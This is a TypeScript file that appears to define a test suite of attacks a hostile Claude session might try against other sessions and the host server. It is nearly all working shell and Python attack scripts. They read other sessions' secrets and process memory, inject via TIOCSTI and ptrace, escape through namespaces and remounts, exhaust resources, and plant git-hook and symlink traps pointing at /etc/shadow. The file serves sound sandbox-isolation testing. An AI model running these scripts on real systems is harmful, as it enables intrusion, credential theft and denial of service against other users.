/**
 * What a hostile session tries against another session of the same server, and against the server. Each attack is a shell script that runs
 * behind the attacker's wall, where Claude's commands run, and prints what it got; or one that prepares the attacker's files, so that the
 * server is led astray by its next save. `$VICTIM…` name what it could not guess: the attacker is given all it might have found out.
 */

export interface Attack {
  name: string;
  /** Run in the attacker's worktree. */
  script: string;
  /** Succeeds where its output matches. Left out: where any of the victim's secrets is in it. */
  won?: RegExp;
  /** Held by the view of the session; users alone do not hold it, as the server says. */
  needsView?: true;
}

/** Programs that the attacks are made of: without one of them an attack would hold without having been tried. */
export const TOOLS = ['python3', 'curl', 'git', 'ipcs', 'ipcmk', 'unshare', 'nsenter', 'mount', 'prlimit', 'setsid'];

const CARRIED_OUT = 'carried out to its end';

/** The script, which says of each program in it that it came to its end. */
export function saying(script: string): string {
  return script.replaceAll('\nE', `\nprint("${CARRIED_OUT}")\nE`);
}

/** Whether each of the programs in a script came to its end. @param said what the script of `saying` printed */
export function wasCarriedOut(script: string, said: string): boolean {
  return said.split(CARRIED_OUT).length >= script.split('\nE').length;
}

/** What is read, sent or ended from inside. */
export const DIRECT: readonly Attack[] = [
  {
    name: 'read the other’s worktree',
    script: 'cat "$VICTIM/worktree/secret.txt"; ls -la "$VICTIM" "$VICTIM/worktree"',
    won: /VICTIM-SECRET|README/,
  },
  {
    name: 'read the other’s conversation',
    script: 'cat "$VICTIM"/home/.claude/projects/*/*.jsonl; ls "$VICTIM/home"',
    won: /VICTIM-SECRET|\.claude/,
  },
  {
    name: 'read the other’s share folder, files and cache',
    script: 'cat "$VICTIM"/share/* "$VICTIM"/files/* "$VICTIM"/cache/* "$VICTIM"/checkpoint/*',
  },
  {
    name: 'read the records and journals of sessions',
    script:
      'cat "$SESSIONS"/*/session.json "$SESSIONS"/*/lives/*/*; cat ../session.json ../lives/*/* ../session.json.new',
    won: /"generation"|"seq"/,
  },
  { name: 'read the server’s folder', script: 'ls "$ROOT" "$SESSIONS"; cat "$ROOT/users.json"', won: /"next"|victim/ },
  {
    name: 'write into the other’s folders',
    script: 'for d in worktree home share tmp; do echo planted > "$VICTIM/$d/planted" && echo WROTE; done',
    won: /WROTE/,
  },
  {
    name: 'write into its own folder’s server files',
    script:
      'echo x > ../session.json && echo WROTE; echo x > ../planted && echo WROTE; mv ../share ../s && echo WROTE; ln -s /etc ../bundle && echo WROTE',
    won: /WROTE/,
  },
  {
    name: 'write into system folders',
    script: 'for d in /etc /usr/bin /usr/local/bin /opt /var/lib; do echo x > $d/planted && echo WROTE; done',
    won: /WROTE/,
  },
  {
    name: 'read the home of the server’s user',
    script: 'ls -A "$SERVER_HOME"; cat "$SERVER_HOME/.gitconfig" "$SERVER_HOME"/.*history',
    won: /\.bashrc|\.gitconfig|\.ssh|name *=/,
  },
  { name: 'read what else is kept beside the server', script: 'cat "$HIDDEN/secrets.json"', won: /HIDDEN-SECRET/ },
  {
    name: 'see processes of others',
    needsView: true,
    script: 'ls /proc | grep -c "^[0-9]"; cat /proc/[0-9]*/cmdline | tr "\\0" " "',
    won: /server\.ts|victim/,
  },
  {
    name: 'read environments of others',
    script:
      'cat /proc/$SERVER_PID/environ /proc/$VICTIM_PID/environ | tr "\\0" "\\n"; cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep -v "^CYRUS_SESSION=$OWN$"',
    won: /CYRUS_SANDBOX_SECRET=|^CYRUS_SESSION=.*victim/m,
  },
  {
    name: 'read the memory of others',
    script:
      'for p in $SERVER_PID $VICTIM_PID; do head -c 1 /proc/$p/mem && echo READ; cat /proc/$p/maps | head -2; done',
    won: /READ|r-xp/,
  },
  {
    name: 'trace the server or the other’s Claude',
    script:
      'python3 - <<E\nimport ctypes,os\nlibc=ctypes.CDLL(None,use_errno=True)\nfor p in (os.environ["SERVER_PID"],os.environ["VICTIM_PID"]):\n  r=libc.ptrace(16,int(p),0,0)\n  print("TRACED" if r==0 else "no")\nE',
    won: /TRACED/,
  },
  {
    name: 'put words into the other’s Claude',
    script:
      'for p in $VICTIM_PID $SERVER_PID; do for f in 0 1 2 3 4 5 6 7 8 9; do echo \'{"type":"user"}\' > /proc/$p/fd/$f && echo WROTE; done; done; ls -R "$VICTIM/tmp"',
    won: /WROTE|\.sock/,
  },
  {
    name: 'end the other’s processes, or the server',
    script:
      'kill -9 $VICTIM_PID && echo SENT; kill -9 $SERVER_PID && echo SENT; kill -0 $VICTIM_PID && echo SENT; kill -9 -1',
    won: /SENT/,
  },
  {
    name: 'use the other’s way to the gateway',
    script:
      'curl -s -m 5 -o /dev/null -w "%{http_code}\\n" -X POST "$VICTIM_WAY/anthropic/v1/messages"; git ls-remote "$VICTIM_WAY/git/acme/victim.git"; curl -s -m 5 "$VICTIM_WAY/mcp/x" -w "%{http_code}"',
    won: /^200|^4(?!03)\d\d|^5\d\d|refs\/heads/m,
  },
  {
    name: 'push the other’s branch',
    script:
      'git push "$VICTIM_WAY/git/acme/victim.git" HEAD:refs/heads/cyrus/victim && echo PUSHED; git push "$OWN_WAY/git/acme/victim.git" HEAD:refs/heads/cyrus/victim && echo PUSHED; git push "$OWN_WAY/git/acme/attacker.git" HEAD:refs/heads/main 2>&1',
    won: /PUSHED/,
  },
  {
    name: 'reach routes of the gateway that only the server uses',
    script:
      'for p in events checkpoint/1/a cache/base patch/0000000000000000000000000000000000000000 shared/x git/../events git/%2e%2e/events anthropic/..%2fevents mcp/../checkpoint/1/a; do curl -s -m 5 --path-as-is -o /dev/null -w "$p %{http_code}\\n" -X POST "$OWN_WAY/$p"; done',
    won: / (2\d\d|401|409|415)$/m,
  },
  {
    name: 'command the server without its secret',
    script:
      'curl -s -m 5 "$SERVER/sessions/victim"; curl -s -m 5 -X DELETE "$SERVER/sessions/victim?purge=true"; curl -s -m 5 -X POST -d "{}" -H "authorization: Bearer guess" "$SERVER/sessions/victim/commands"',
    won: /"state"|"streamId"/,
  },
  {
    name: 'find the token or a secret in what can be read',
    script:
      'grep -rslF -e "$TOKEN_A_START" -e "HIDDEN-SECRET" .. /tmp /var/tmp /dev/shm /run /etc 2>/dev/null | head; env; cat /proc/self/environ | tr "\\0" "\\n"; git config --list --show-origin',
  },
  {
    name: 'meet the other in /tmp, /var/tmp or shared memory',
    needsView: true,
    script: 'ls -A /tmp /var/tmp /dev/shm; cat /tmp/victim-* /var/tmp/victim-* /dev/shm/victim-*',
    won: /victim-/,
  },
  {
    name: 'meet the other in System V shared memory, queues and keyrings',
    script:
      'ipcs -m -q -s; cat /proc/sysvipc/shm | tail -n +2; keyctl show @u 2>/dev/null; grep -v "^ *$" /proc/keys | grep -c victim',
    won: /0x0000cafe|51966|^[1-9]/m,
  },
  {
    name: 'keep keys in the kernel, where others that inherit the same keyring would find them, also by calls of 32 bits and x32',
    script:
      'python3 - <<E\nimport ctypes,mmap,platform\nlibc=ctypes.CDLL(None,use_errno=True)\nadd,ask,ctl=(248,249,250) if platform.machine()=="x86_64" else (217,218,219)\nfor ring in (-2,-3,-4,-5):\n  if libc.syscall(add,b"user",b"attacker",b"x",1,ring)>=0: print("KEPT",ring)\n  if libc.syscall(ctl,0,ring,1)>=0: print("FOUND",ring)\n  if libc.syscall(ask,b"user",b"victim",None,ring)>=0: print("READ",ring)\nif libc.syscall(ctl,1,None)>=0: print("JOINED")\nif platform.machine()=="x86_64":\n  if libc.syscall(0x40000000+ctl,0,-3,1)>=0: print("FOUND by x32")\n  code=mmap.mmap(-1,4096,prot=7)\n  code.write(bytes.fromhex("53b82001000031dbb9fdffffffba01000000cd805bc3"))\n  if ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()>=0: print("FOUND by 32 bits")\nE',
    won: /KEPT|FOUND|READ|JOINED/,
    needsView: true,
  },
  {
    name: 'type into a terminal',
    script:
      'python3 - <<E\nimport errno,fcntl,os,pty,termios\nfor path in ("/dev/tty","/dev/console","/dev/tty0","/dev/pts/0"):\n  try:\n    fcntl.ioctl(os.open(path,os.O_RDWR|os.O_NOCTTY),termios.TIOCSTI,b"x"); print("TYPED",path)\n  except OSError: pass\nmain,end=pty.openpty()\nos.setsid()\nfcntl.ioctl(end,termios.TIOCSCTTY,0)\ntry:\n  fcntl.ioctl(end,termios.TIOCSTI,b"x"); print("TYPED")\nexcept OSError as e:\n  print("refused" if e.errno==errno.EPERM else "TYPED, were it not for a setting of the kernel: %d" % e.errno)\nE',
    won: /TYPED/,
    needsView: true,
  },
  {
    name: 'get rights by programs with the set-user-ID bit',
    script:
      'su -c id root </dev/null; mount -t tmpfs x /mnt && echo MOUNTED; chroot / id && echo ROOT; python3 -c "import os; os.setuid(0); print(\'ROOT\')"',
    won: /MOUNTED|ROOT|uid=0/,
  },
  {
    name: 'make devices, load modules, change the kernel',
    script:
      'mknod /tmp/disk b 8 0 && echo MADE; cat /proc/sys/kernel/core_pattern > /tmp/pattern; cat /tmp/pattern > /proc/sys/kernel/core_pattern && echo WROTE; dd if=/dev/mem of=/tmp/m count=1 && echo READ; ls /dev/sd* /dev/vd* /dev/nvme*',
    won: /MADE|WROTE|READ|\/dev\/[snv]/,
  },
  {
    name: 'reach sockets of services, and of others, in the file system',
    script:
      'python3 - <<E\nimport os,socket,subprocess\nfound=subprocess.run(["find","/","-xdev","-type","s"],capture_output=True,text=True).stdout.split("\\n")\nmore=subprocess.run(["find","/run","/var/run","/tmp",os.environ["ROOT"],os.environ["VICTIM"],"-type","s"],capture_output=True,text=True).stdout.split("\\n")\nfor path in set(found+more):\n  if not path or path.startswith(os.environ["OWN"]): continue\n  for kind in (socket.SOCK_STREAM,socket.SOCK_DGRAM):\n    try:\n      socket.socket(socket.AF_UNIX,kind).connect(path); print("CONNECTED",path)\n    except OSError: pass\nE',
    won: /CONNECTED/,
  },
  {
    name: 'learn of others from mounts, groups and open files',
    script:
      'cat /proc/self/mountinfo /proc/self/mounts /proc/self/cgroup /proc/mounts; ls -l /proc/self/fd /proc/[0-9]*/cwd /proc/[0-9]*/root; cat /proc/locks | wc -l >/dev/null',
    won: /victim/,
  },
  {
    name: 'uncover what its view hides, by namespaces of its own',
    script:
      'unshare -Urm sh -c \'for d in "$ROOT" "$SERVER_HOME" "$HIDDEN" /run /tmp; do umount -l "$d"; umount "$d"; done; mount --rbind / /mnt; cat "$VICTIM/worktree/secret.txt" "/mnt$VICTIM/worktree/secret.txt" "$HIDDEN/secrets.json" "/mnt$HIDDEN/secrets.json"; ls "/mnt$SESSIONS" "$SESSIONS"\'; unshare -Ur sh -c \'cat "$VICTIM/worktree/secret.txt"; kill -0 $SERVER_PID && echo SENT\'; nsenter -t $SERVER_PID -m cat "$HIDDEN/secrets.json"; nsenter -t 1 -m -p ls "$SESSIONS"',
    won: /victim|SENT/,
  },
  {
    name: 'make what it may not write writable, by mounting it again',
    script:
      'for d in / /etc "$ROOT" "$OWN" /sys /proc; do mount -o remount,rw,bind "$d"; unshare -Urm mount -o remount,rw,bind "$d"; done; echo x > /etc/planted && echo WROTE; echo x > ../planted && echo WROTE; unshare -Urm sh -c \'mount -o remount,rw,bind /; mount -o remount,rw,bind "$OWN"; echo x > /etc/planted && echo WROTE; echo x > "$OWN/planted" && echo WROTE\'',
    won: /WROTE/,
  },
  {
    name: 'raise its own limits, or leave its control group',
    script:
      'for f in $(find /sys/fs/cgroup -name "memory.limit_in_bytes" -o -name memory.max -o -name pids.max -o -name cgroup.procs 2>/dev/null); do case $f in *cgroup.procs) v=$$;; *) v=max;; esac; echo $v > $f && echo WROTE $f; done; unshare -Urmn mount -t cgroup2 x /mnt && echo $$ > /mnt/cgroup.procs && echo WROTE; prlimit --pid $$ --nproc=unlimited 2>/dev/null && echo WROTE; prlimit --pid $$ --data=unlimited 2>/dev/null && echo WROTE',
    won: /WROTE/,
  },
  {
    name: 'watch what others do with their files, or with the machine',
    script:
      'python3 - <<E\nimport ctypes,os\nlibc=ctypes.CDLL(None,use_errno=True)\nfd=libc.inotify_init()\nfor path in (os.environ["VICTIM"]+"/worktree",os.environ["VICTIM"]+"/home",os.environ["SESSIONS"],os.environ["VICTIM"]+"/session.json"):\n  if libc.inotify_add_watch(fd,path.encode(),0xfff)>=0:\n    try:\n      if [n for n in os.listdir(path) if n!=os.path.basename(os.environ["OWN"])]: print("WATCHED",path)\n    except OSError: print("WATCHED",path)\nfor flags in (0,0x200):\n  fan=libc.syscall(300,flags,0)\n  if fan>=0 and libc.syscall(301,fan,1|0x10,ctypes.c_uint64(0x2|0x20),-100,b"/")==0: print("WATCHED the machine")\nif libc.syscall(298,ctypes.create_string_buffer(b"\\x01\\0\\0\\0\\x80\\0\\0\\0"+b"\\0"*120),int(os.environ["SERVER_PID"]),-1,-1,0)>=0: print("WATCHED the server")\nE',
    won: /WATCHED/,
  },
  {
    name: 'read another’s memory, take its open files or change its limits by calls of the kernel',
    script:
      'python3 - <<E\nimport ctypes,os\nlibc=ctypes.CDLL(None,use_errno=True)\nclass V(ctypes.Structure):\n  _fields_=[("b",ctypes.c_void_p),("n",ctypes.c_size_t)]\nfor p in (int(os.environ["SERVER_PID"]),int(os.environ["VICTIM_PID"]),os.getppid()+0):\n  if p==os.getppid(): continue\n  b=ctypes.create_string_buffer(16)\n  if libc.process_vm_readv(p,ctypes.byref(V(ctypes.addressof(b),16)),1,ctypes.byref(V(0x400000,16)),1,0)>0: print("READ")\n  fd=libc.syscall(434,p,0)\n  if fd>=0:\n    print("OPENED")\n    for n in range(10):\n      if libc.syscall(438,fd,n,0)>=0: print("TOOK")\n  if libc.syscall(302,p,7,ctypes.byref(ctypes.create_string_buffer(16)),None)==0: print("CHANGED")\n  if libc.setpriority(0,p,19)==0: print("CHANGED")\n  if libc.syscall(203,p,8,ctypes.byref(ctypes.c_ulong(1)))==0: print("CHANGED")\nE',
    won: /READ|OPENED|TOOK|CHANGED/,
  },
  {
    name: 'meet the other in POSIX queues, or in names of sockets that need no file',
    script:
      'ls -A /dev/mqueue; python3 - <<E\nimport socket\nfor line in open("/proc/net/unix").read().split("\\n")[1:]:\n  name=line.split(" ")[-1]\n  if not name.startswith("@") or "victim" not in name: continue\n  try:\n    s=socket.socket(socket.AF_UNIX); s.connect("\\0"+name[1:]); print("CONNECTED",name)\n  except OSError: pass\nE',
    won: /victim/,
  },
  {
    name: 'have git, npm or Claude read settings of the other’s, or of the server’s user',
    script:
      'for h in "$VICTIM/home" "$SERVER_HOME"; do git -c include.path="$h/.gitconfig" config --list --show-origin | grep -F "$h"; HOME="$h" git config --global --list; cat "$h/.npmrc" "$h/.netrc" "$h/.claude/.credentials.json" "$h/.claude.json" "$h/.config/gh/hosts.yml"; done; git -C "$VICTIM/worktree" log --oneline; git --git-dir="$VICTIM/worktree/.git" config --list; git clone -q "$VICTIM/worktree" /tmp/cloned && echo CLONED',
    won: /acme\/victim|"oauth|_authToken|CLONED|^[0-9a-f]{7} /m,
  },
  {
    name: 'knock at every port of the machine as the other',
    script:
      'python3 - <<E\nimport os,socket,urllib.request\nports=sorted({int(line.split()[1].split(":")[1],16) for line in open("/proc/net/tcp").read().split("\\n")[1:] if line.strip() and line.split()[3]=="0A"})\nown=int(os.environ["OWN_WAY"].rsplit(":",1)[1])\nfor port in ports:\n  if port==own: continue\n  for path in ("/anthropic/v1/models","/git/acme/victim.git/info/refs?service=git-upload-pack","/mcp/linear"):\n    try:\n      r=urllib.request.urlopen(f"http://127.0.0.1:{port}{path}",timeout=3)\n      print("OPEN",port,path,r.status,r.read(200))\n    except Exception: pass\nE',
    won: /OPEN .*(refs\/heads|"data"|claude)/,
  },
  {
    name: 'have core files written',
    script: 'ulimit -c; ulimit -c unlimited && echo RAISED',
    won: /^unlimited|RAISED/m,
  },
  {
    name: 'take all processes of the machine',
    script:
      'n=$(ulimit -u); test "$n" = unlimited && echo UNLIMITED; python3 - <<E\nimport os,signal\nmade=[]\ntry:\n  while len(made)<20000:\n    p=os.fork()\n    if p==0:\n      signal.pause()\n    made.append(p)\n  print("UNBOUNDED")\nexcept OSError:\n  print("bounded at",len(made))\nfor p in made: os.kill(p,9)\nE',
    won: /UNLIMITED|UNBOUNDED/,
  },
  {
    name: 'take all memory of the machine',
    script:
      'python3 - <<E\ntry:\n  x=bytearray(int(os.environ["TOO_MUCH"])) if False else None\n  import os,mmap\n  m=mmap.mmap(-1,int(os.environ["TOO_MUCH"]),flags=mmap.MAP_PRIVATE|mmap.MAP_ANONYMOUS)\n  print("UNBOUNDED")\nexcept (MemoryError,OSError) as e:\n  print("bounded",e)\nE',
    won: /UNBOUNDED/,
  },
];

/** Where each session has a control group of its own: each of these processes takes less than one may. */
export const TOGETHER: readonly Attack[] = [
  {
    name: 'take all memory of the machine, by many processes',
    script:
      'python3 - <<E\nimport os,time,signal\nmade=[]\nfor i in range(8):\n  p=os.fork()\n  if p==0:\n    x=bytearray(b"x")*(400*1024*1024)\n    time.sleep(60)\n    os._exit(0)\n  made.append(p)\ntime.sleep(6)\nalive=[p for p in made if os.waitpid(p,os.WNOHANG)==(0,0)]\nprint("UNBOUNDED" if len(alive)==8 else "bounded at %d" % len(alive))\nfor p in alive: os.kill(p,9)\nE',
    won: /UNBOUNDED/,
  },
];

/** What is put into the attacker's folders for the server to stumble over at its next save, checkpoint or share. */
export const TRAPS: readonly Attack[] = [
  {
    name: 'links in the share folder, to the other’s files and the server’s',
    script:
      'for t in "$VICTIM/worktree/secret.txt" "$VICTIM/session.json" /proc/self/environ /proc/self/mem /etc/shadow "$HIDDEN/secrets.json"; do ln -sfn "$t" "$CYRUS_SHARE/$(basename "$t").txt"; done; mkfifo "$CYRUS_SHARE/fifo.txt"; rm -rf "$CYRUS_SHARE/x"; ln -sfn "$VICTIM/worktree" "$CYRUS_SHARE/dir"',
  },
  {
    name: 'hard links to the other’s files',
    script:
      'ln "$VICTIM/worktree/secret.txt" hard.txt; ln "$VICTIM/session.json" "$CYRUS_SHARE/hard.txt"; ln /etc/shadow hard2.txt',
  },
  {
    name: 'links in the worktree and in place of its folders',
    script:
      'ln -s "$VICTIM/worktree" linked; ln -s "$VICTIM/worktree/secret.txt" secret-link.txt; ln -s /etc/shadow CLAUDE.md.txt; mkdir -p deep; rm -rf deep; ln -s "$VICTIM" deep; mkfifo pipe.txt',
  },
  {
    name: 'programs in git’s configuration and hooks',
    script:
      'P="id -u >> $OWN/worktree/.git/ran; touch $OWN/share/ran-as-\\$(id -u).txt; cat $ROOT/users.json > $OWN/share/got.txt"; printf "#!/bin/sh\\n$P\\n" > .git/evil; chmod +x .git/evil; git config core.fsmonitor "$PWD/.git/evil"; git config core.sshCommand "$PWD/.git/evil"; git config core.pager "$PWD/.git/evil"; git config filter.x.clean "$PWD/.git/evil"; git config filter.x.smudge "$PWD/.git/evil"; git config diff.external "$PWD/.git/evil"; git config gpg.program "$PWD/.git/evil"; git config credential.helper "$PWD/.git/evil"; git config uploadpack.packObjectsHook "$PWD/.git/evil"; echo "*.f filter=x" > .gitattributes; echo f > a.f; mkdir -p .git/hooks; for h in pre-commit post-commit post-checkout reference-transaction post-index-change pre-push; do cp .git/evil .git/hooks/$h; done; git config core.hooksPath "$PWD/.git/hooks"; printf "[includeIf \\"gitdir:/\\"]\\n path = $PWD/.git/more\\n" >> .git/config; printf "[core]\\n fsmonitor = $PWD/.git/evil\\n" > .git/more',
  },
  {
    name: 'alternates and lists that name the other’s objects',
    script:
      'echo "$VICTIM/worktree/.git/objects" >> .git/objects/info/alternates; ln -sfn "$VICTIM/session.json" .git/shallow.txt; ln -sfn "$VICTIM/session.json" .git/MERGE_MSG',
  },
  {
    name: 'links in place of files of git and of the conversation',
    script:
      'mkdir -p "$HOME/.claude/projects/x"; for d in "$HOME"/.claude/projects/*/; do ln -sfn "$VICTIM/session.json" "$d/extra.jsonl"; ln -sfn /etc/shadow "$d/shadow.jsonl"; done; ln -sfn "$VICTIM/worktree/secret.txt" .git/COMMIT_EDITMSG; ln -sfn /etc/shadow .git/info/exclude2',
  },
  {
    name: 'content of Git LFS by links',
    script:
      'mkdir -p .git/lfs/objects/aa/bb .git/lfs/tmp; ln -sfn "$VICTIM/session.json" .git/lfs/objects/aa/bb/$(printf "aabb%060d" 0); rm -rf .git/lfs/tmp; ln -s "$VICTIM/worktree" .git/lfs/tmp',
  },
];

/** Files without blocks on the disk, larger than the limit of a session, where the server or its git reads whole files. */
export const LARGE_FILES: Attack = {
  name: 'files that fill the memory of their reader',
  script:
    'truncate -s 8G .gitignore .gitattributes .git/info/exclude .git/info/attributes; mkdir -p .git/rebase-merge; truncate -s 8G .git/rebase-merge/orig-head',
};

/** The repository itself is somebody else's: after this the session's own work is lost at most. */
export const LAST_TRAPS: readonly Attack[] = [
  {
    name: 'a .git that leads to the other’s repository',
    script: 'mv .git .git-own; echo "gitdir: $VICTIM/worktree/.git" > .git',
  },
];
